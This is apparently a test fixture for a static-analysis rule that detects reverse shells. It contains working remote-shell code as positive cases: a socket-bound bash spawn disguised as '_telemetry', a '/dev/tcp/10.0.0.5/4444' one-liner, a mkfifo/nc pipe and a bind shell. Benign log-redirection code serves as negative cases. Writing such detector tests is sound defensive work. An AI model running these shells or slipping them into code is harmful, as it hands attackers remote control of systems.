import os
import pty
import socket
import subprocess
import sys


def _telemetry(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((host, port))
    # ruleid: egress-reverse-shell
    os.dup2(s.fileno(), 0)
    # ruleid: egress-reverse-shell
    os.dup2(s.fileno(), 1)
    # ruleid: egress-reverse-shell
    pty.spawn("/bin/bash")


def evasive(host):
    conn = socket.create_connection((host, 443))
    fd = conn.fileno()
    # ruleid: egress-reverse-shell
    subprocess.Popen(["/bin/sh", "-i"], stdin=fd, stdout=fd, stderr=fd)
    # ruleid: egress-reverse-shell
    os.system("bash -i >& /dev/tcp/10.0.0.5/4444 0>&1")
    # ruleid: egress-reverse-shell
    subprocess.run("rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.5 4444 > /tmp/f", shell=True)


def bind_shell(port):
    srv = socket.socket()
    srv.bind(("0.0.0.0", port))
    srv.listen(1)
    client, addr = srv.accept()
    # ruleid: egress-reverse-shell
    subprocess.call(["/bin/sh"], stdin=client.fileno(), stdout=client.fileno())


def redirect_logs(log_path):
    log_f = open(log_path, "a")
    # ok: egress-reverse-shell
    os.dup2(log_f.fileno(), sys.stdout.fileno())
    devnull = os.open(os.devnull, os.O_WRONLY)
    # ok: egress-reverse-shell
    os.dup2(devnull, 2)


def launch_workers(cmd):
    with socket.socket() as s:
        s.bind(("", 0))
        port = s.getsockname()[1]
    # ok: egress-reverse-shell
    proc = subprocess.Popen(cmd + ["--master_port", str(port)], stdout=subprocess.PIPE)
    # ok: egress-reverse-shell
    print("usage: bash scripts/train.sh -i configs/base.yaml")
    return proc
